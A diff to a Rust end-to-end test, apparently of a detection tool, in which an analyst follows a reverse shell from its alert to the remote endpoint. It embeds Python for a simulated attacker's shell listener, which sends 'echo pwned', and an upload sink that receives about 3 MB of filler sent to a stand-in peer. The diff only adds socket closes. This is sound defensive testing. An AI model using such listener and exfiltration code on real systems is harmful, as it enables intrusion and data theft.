@@ -80,14 +80,14 @@ fn an_analyst_follows_a_reverse_shell_from_its_alert_to_the_remote_endpoint_in_a
             .expect("aggregator"),
     );
     // The attacker: a shell listener that sends one command and holds the line, and a sink
-    // for the upload.
+    // for the upload that closes once it has it all.
     let attacker = format!(
         "import socket,threading,time\n\
          def shell():\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n    \
          s.bind(('{PEER}',{SHELL_PORT})); s.listen(); c,_=s.accept(); c.sendall(b'echo pwned\\n'); time.sleep(120)\n\
          def sink():\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n    \
          s.bind(('{PEER}',{UPLOAD_PORT})); s.listen(); c,_=s.accept()\n    \
-         while c.recv(1<<16): pass\n    time.sleep(120)\n\
+         while c.recv(1<<16): pass\n    c.close(); time.sleep(120)\n\
          threading.Thread(target=shell,daemon=True).start(); threading.Thread(target=sink,daemon=True).start(); time.sleep(120)"
     );
     kids.0.push(
@@ -107,7 +107,7 @@ fn an_analyst_follows_a_reverse_shell_from_its_alert_to_the_remote_endpoint_in_a
     // command line, then, once the browser has the alerts page open, the attack.
     let upload = format!(
         "import socket,time\nc=socket.create_connection(('{PEER}',{UPLOAD_PORT}))\n\
-         b=b'x'*65536\nfor _ in range(48): c.sendall(b)\ntime.sleep(120)"
+         b=b'x'*65536\nfor _ in range(48): c.sendall(b)\nc.close(); time.sleep(120)"
     );
     let script = format!(
         "{bin} collector --output grpc --aggregator http://10.212.0.1:7410 --token-file {token} \
